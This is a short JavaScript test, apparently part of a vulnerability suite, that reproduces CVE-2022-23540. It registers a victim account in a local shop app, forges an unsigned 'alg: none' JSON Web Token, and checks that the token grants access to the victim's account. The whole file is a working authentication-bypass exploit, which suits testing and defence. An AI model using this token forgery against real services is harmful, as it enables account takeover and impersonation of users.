'use strict';

// CVE-2022-23540: a session that names a key the shop does not have is checked against no key at
// all, and then jsonwebtoken accepts a token without a signature.
const { attack } = require('./attack');

const part = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');

attack(async ({ url, app }) => {
  app.locals.accounts.register('victim@example.com', 'a secret of theirs');
  const token = `${part({ alg: 'none', kid: 'none' })}.${part({ email: 'victim@example.com' })}.`;
  const response = await fetch(`${url}/account`, { headers: { cookie: `session=${token}` } });
  return response.status === 200 && (await response.json()).email === 'victim@example.com';
});
